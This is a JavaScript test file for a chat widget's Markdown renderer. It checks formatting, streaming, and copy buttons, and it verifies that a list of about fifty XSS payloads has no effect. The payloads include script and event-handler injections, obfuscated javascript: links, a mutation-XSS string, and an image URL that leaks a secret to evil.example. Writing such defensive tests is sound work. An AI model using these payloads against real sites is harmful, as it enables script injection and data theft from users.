// Rendering of answers: Markdown is rendered, and HTML has no effect.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { startService } from "./service.js";

let service;
let tab;
before(async () => {
  service = await startService();
  tab = await service.tab();
});
after(() => service.close());

let questions = 0;

/** Makes the model send this text in pieces of `size`, and waits for the end. */
async function show(text, size = text.length) {
  const question = `Question ${(questions += 1)}`;
  const pieces = [];
  for (let at = 0; at < text.length; at += size) pieces.push(text.slice(at, at + size));
  service.model.when(question, (call) => (call.say(...pieces), call.done()));
  await tab.window.evaluate((window) => window.clear());
  await tab.askAndWait(question);
}

/** Returns the answer's HTML without the directions of its texts. */
const html = async () => (await tab.answer.innerHTML()).replace(/ dir="\w+"/g, "");

/** Returns the HTML of a link in the window. */
const link = (address, text) => `<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">${text}</a>`;

test("Markdown is rendered", async () => {
  const cases = [
    ["one\n\ntwo", "<p>one</p><p>two</p>"],
    ["one\ntwo\\\nthree", "<p>one<br>two<br>three</p>"],
    ["# A\n### B ##\n###### C", "<h3>A</h3><h5>B</h5><h6>C</h6>"],
    ["*a* _b_ **c** __d__ ***e*** ~~f~~", "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <strong><em>e</em></strong> <del>f</del></p>"],
    ["**bold *and* more**", "<p><strong>bold <em>and</em> more</strong></p>"],
    ["snake_case_name, 2 * 3 * 4, \\*not\\*, ****", "<p>snake_case_name, 2 * 3 * 4, *not*, ****</p>"],
    ["*open and **shut**", "<p>*open and <strong>shut</strong></p>"],
    ["**早い**と思う", "<p><strong>早い</strong>と思う</p>"],
    ["`a < b` and `` `c` `` and `open", "<p><code>a &lt; b</code> and <code>`c`</code> and `open</p>"],
    ["---\n***\n_ _ _", "<hr><hr><hr>"],
    ["> a\n> b\n>\n> > c", "<blockquote><p>a<br>b</p><blockquote><p>c</p></blockquote></blockquote>"],
    ["- a\n- b\n  - c\n    more\n- d", "<ul><li>a</li><li>b<ul><li>c<br>more</li></ul></li><li>d</li></ul>"],
    ["3. a\n\n   more\n4. b\n- c", '<ol start="3" class="loose"><li><p>a</p><p>more</p></li><li><p>b</p></li></ol><ul><li>c</li></ul>'],
    ["Say:\n1. a\n  - b\n2. c", '<p>Say:</p><ol start="1"><li>a<ul><li>b</li></ul></li><li>c</li></ol>'],
    ["It was\n1986. A year", "<p>It was<br>1986. A year</p>"],
    ["[a](https://x.example/p_(q) \"title\")", `<p>${link("https://x.example/p_(q)", "a")}</p>`],
    ["<https://x.example> mailto [m](mailto:a@b.example)", `<p>${link("https://x.example/", "https://x.example")} mailto ${link("mailto:a@b.example", "m")}</p>`],
    ["See https://x.example/a?b=c&d=e, or (https://y.example).", `<p>See ${link("https://x.example/a?b=c&amp;d=e", "https://x.example/a?b=c&amp;d=e")}, or (${link("https://y.example/", "https://y.example")}).</p>`],
    ["**https://x.example**", `<p><strong>${link("https://x.example/", "https://x.example")}</strong></p>`],
    ["![a cat](https://x.example/cat.png)", `<p>${link("https://x.example/cat.png", "a cat")}</p>`],
    ["![](https://x.example/cat.png)", `<p>${link("https://x.example/cat.png", "https://x.example/cat.png")}</p>`],
    ["[![badge](https://x.example/b.svg)](https://y.example)", `<p>${link("https://y.example/", "<span>badge</span>")}</p>`],
    ["array[0] and [text] and [a](b", "<p>array[0] and [text] and [a](b</p>"],
    ["[home](/relative)", "<p><span>home</span></p>"],
    [
      "| a | b |\n|---|:-:|\n| 1 | **2** |\n| x \\| y |\n\nend",
      '<div class="table" part="table" tabindex="0"><table><thead><tr><th scope="col">a</th><th scope="col" class="center">b</th></tr></thead><tbody><tr><td>1</td><td class="center"><strong>2</strong></td></tr><tr><td>x | y</td><td class="center"></td></tr></tbody></table></div><p>end</p>',
    ],
    [
      "```js\nlet a = \"<b>\";\n\n\t# no\n```\nafter",
      '<div class="code" part="code"><div><span>js</span><button type="button" class="copy quiet">Copy</button></div><pre tabindex="0"><code>let a = "&lt;b&gt;";\n\n\t# no</code></pre></div><p>after</p>',
    ],
    [
      "~~~\n```\nopen to the end",
      '<div class="code" part="code"><div><span>Code</span><button type="button" class="copy quiet">Copy</button></div><pre tabindex="0"><code>```\nopen to the end</code></pre></div>',
    ],
  ];
  for (const [markdown, expected] of cases) {
    await show(markdown);
    assert.equal(await html(), expected, markdown);
  }
});

test("Markdown in pieces renders as the whole text", async () => {
  const whole = [
    "# Title\n\nText with **bold**, `code` and [a link](https://x.example).\n\n1. one\n   - inner\n2. two\n\n",
    "```rust\nfn main() {}\n```\r\n\r\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nThe *end*.",
  ].join("");
  await show(whole);
  const expected = await html();
  for (const size of [1, 3, 7]) {
    await show(whole, size);
    assert.equal(await html(), expected, `pieces of ${size}`);
  }
});

test("unfinished Markdown shows no marks, finished stays", async () => {
  const text = "First.\n\nThen **bold words** and `some code` and [a link](https://x.example/long/path) - all.\n\n- item *one*\n- item";
  const question = "Watch it grow";
  const next = [];
  service.model.when(question, async (call) => {
    for (const character of text) {
      call.say(character);
      await new Promise((resolve) => next.push(resolve));
    }
    call.done();
  });
  await tab.window.evaluate((window) => {
    window.clear();
    window.seen = new Set();
    window.firsts = new Set();
    const look = () => {
      const body = window.shadowRoot.querySelector(".answer .body");
      if (!body) return;
      window.seen.add(body.textContent);
      if (body.children.length > 1) window.firsts.add(body.firstChild);
    };
    window.looking = new MutationObserver(look);
    window.looking.observe(window.shadowRoot, { childList: true, subtree: true, characterData: true });
  });
  const feeding = setInterval(() => next.shift()?.(), 4);
  await tab.askAndWait(question);
  clearInterval(feeding);
  const { seen, firsts } = await tab.window.evaluate((window) => {
    window.looking.disconnect();
    return { seen: [...window.seen], firsts: window.firsts.size };
  });
  assert.ok(seen.length > 10, `only ${seen.length} states were seen`);
  for (const state of seen) assert.doesNotMatch(state, /[*`[\]()]|https/, state);
  assert.equal(firsts, 1);
});

const HOSTILE = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<img src='/leak.png'>",
  "<svg onload=pwned()><script>pwned()</script></svg>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<details open ontoggle=pwned()>",
  "<style>@import '/leak.css'; * { background: url(/leak.png) }</style>",
  "<link rel=stylesheet href=/leak.css><base href=https://evil.example/>",
  "<form action=/leak><input name=a onfocus=pwned() autofocus></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
  "<a href='javascript:pwned()'>x</a>",
  "[a](javascript:pwned())",
  "[a](JaVaScRiPt:pwned())",
  "[a](java\tscript:pwned())",
  "[a](<java\nscript:pwned()>)",
  "[a](&#106;avascript:pwned())",
  "[a](javascript&colon;pwned())",
  "[a](\\javascript:pwned())",
  "[a]( javascript:pwned())",
  "[a](\u0001javascript:pwned())",
  "[a](data:text/html,<script>pwned()</script>)",
  "[a](vbscript:pwned())",
  "[a](blob:https://x.example/1)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](https://x.example\" onmouseover=\"pwned())",
  "[a](https://x.example 'onclick=pwned()')",
  "![a](https://evil.example/leak.png?q=secret)",
  "![a\" onerror=\"pwned()](x)",
  "![a](javascript:pwned())",
  "<javascript:pwned()>",
  "<https://x.example/\" onclick=\"pwned()>",
  "https://x.example/\"onmouseover=\"pwned()",
  "```\"><img src=x onerror=pwned()>\ncode\n```",
  "```html onload=pwned()\n<script>pwned()</script>\n```",
  "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | [a](javascript:pwned()) |",
  "# <img src=x onerror=pwned()>",
  "> <script>pwned()</script>",
  "- <script>pwned()</script>",
  "`<img src=x onerror=pwned()>`",
  "**<b onclick=pwned()>x</b>**",
  "[<img src=x onerror=pwned()>](https://x.example)",
  "[a]: javascript:pwned()\n\n[a]",
  "<al-chat-window api=https://evil.example></al-chat-window>",
  "<slot></slot><template><script>pwned()</script></template>",
  "{{constructor.constructor('pwned()')()}}",
  "\u202e<script>pwned()</script>",
  "<!--<script>pwned()</script>-->",
  "<![CDATA[<script>pwned()</script>]]>",
];

const TAGS =
  "A B BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM H3 H4 H5 H6 HR I INPUT INS KBD LABEL LI MARK OL P PRE S SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TH THEAD TR U UL".split(" ");
const ATTRIBUTES = "checked class dir disabled href part rel scope start tabindex target type".split(" ");

test("hostile Markdown and HTML have no effect", async () => {
  let pwned = 0;
  await tab.page.exposeFunction("pwned", () => (pwned += 1));
  tab.page.on("dialog", (dialog) => (pwned += 1, dialog.dismiss()));
  const requests = tab.requests();
  const attempts = [...HOSTILE.map((text) => [text]), [HOSTILE.join("\n\n"), 5], [HOSTILE.join(" "), 11]];
  for (const [text, size] of attempts) {
    await show(text, size);
    const found = await tab.answer.evaluate((body) =>
      [...body.querySelectorAll("*")].map(({ tagName, attributes, href }) => ({
        tag: tagName,
        names: [...attributes].map(({ name }) => name),
        href,
      })),
    );
    for (const { tag, names, href } of found) {
      assert.ok(TAGS.includes(tag), `${tag} from ${text}`);
      for (const name of names) assert.ok(ATTRIBUTES.includes(name), `${name} from ${text}`);
      if (tag === "A") assert.match(href, /^(https?|mailto):/, text);
    }
  }
  // The same for a visitor's message and a file's name.
  await tab.page.locator("input[type=file]").setInputFiles({
    name: "<img src=x onerror=pwned()>.txt",
    mimeType: "text/plain",
    buffer: Buffer.from("x"),
  });
  await tab.askAndWait("<img src=x onerror=pwned()>");
  assert.equal(await tab.page.locator("img, script:not([src]), iframe, svg [onload]").count(), 0);
  assert.equal(pwned, 0);
  const strange = requests.map((request) => new URL(request.url()).pathname).filter((path) => !path.startsWith("/api/"));
  assert.deepEqual(strange, []);
});

test("long hostile texts render in time", async () => {
  const size = 100_000;
  const fill = (text) => text.repeat(Math.ceil(size / text.length)).slice(0, size);
  const patterns = [
    "*a ", "*a_b", "**a *b ", "_a ", "[", "![", "[a](", "[a](b ", "[a](b \"", "](", "`", "`a``b", "``` ", "> ", ">", "- ", "-  - ",
    "1. ", "  - a\n", "#", "# a # ", "|", "|-", "a|b\n-|-\n", "\\", "<https://", "https://x.y/) ", "https://x.y/)))))", "~~a", "\n", " ", "\t",
    "***", "a\n", "(", "<a ", "-\n\n", "* *", "_ ", "a** b",
  ];
  for (const pattern of patterns) {
    const began = Date.now();
    await show(fill(pattern), 10_000);
    const took = Date.now() - began;
    assert.ok(took < 10_000, `${JSON.stringify(pattern)} took ${took} ms`);
  }
});

test("code is copied by its button", async () => {
  await show("```sh\necho hello\n```");
  await tab.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await tab.answer.getByRole("button", { name: "Copy" }).click();
  await tab.answer.getByText("Copied").waitFor();
  assert.equal(await tab.page.evaluate(() => navigator.clipboard.readText()), "echo hello");
});
